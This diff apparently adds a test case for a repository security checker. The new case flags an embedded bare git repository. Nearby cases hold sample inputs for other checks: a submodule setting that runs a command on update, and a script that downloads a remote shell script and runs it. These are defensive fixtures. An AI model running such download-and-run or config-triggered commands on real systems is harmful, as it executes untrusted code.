@@ -141,6 +141,9 @@ OWN: dict[str, Case] = {
     "security.run-setting": text(
         ".gitmodules", '[submodule "a"]\n\tupdate = !make\n', '[submodule "a"]\n\tupdate = rebase\n'
     ),
+    "security.embedded-repository": text(
+        "pkg/config", "[core]\n\tbare = true\n", "[core]\n\tfilemode = true\n"
+    ),
     "security.foreign-script": text(
         "a.sh", "curl -O https://example.com/i.sh\nsh i.sh\n", "curl -O https://get.helm.sh/i.sh\nsh i.sh\n"
     ),
